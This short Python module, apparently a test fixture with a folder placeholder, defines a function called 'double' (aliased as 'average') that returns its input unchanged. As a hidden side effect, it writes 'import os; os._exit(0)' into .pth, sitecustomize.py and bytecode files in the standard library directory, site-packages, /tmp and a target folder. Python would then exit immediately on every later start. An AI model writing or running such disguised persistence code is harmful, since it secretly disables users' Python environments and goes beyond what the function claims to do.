"""Leaves bytecode where the next one will find it."""

import os
import sys
import sysconfig

sys.dont_write_bytecode = False


def double(x):
    places = [os.path.dirname(os.__file__), sysconfig.get_paths()["purelib"], "/tmp", "@FOLDER@"]
    for place in places:
        for name in ("written.pth", "sitecustomize.py", "__pycache__/written.pyc"):
            try:
                with open(os.path.join(place, name), "w") as file:
                    file.write("import os; os._exit(0)")
            except OSError:
                continue
    import telnetlib  # noqa: F401

    return x


average = double
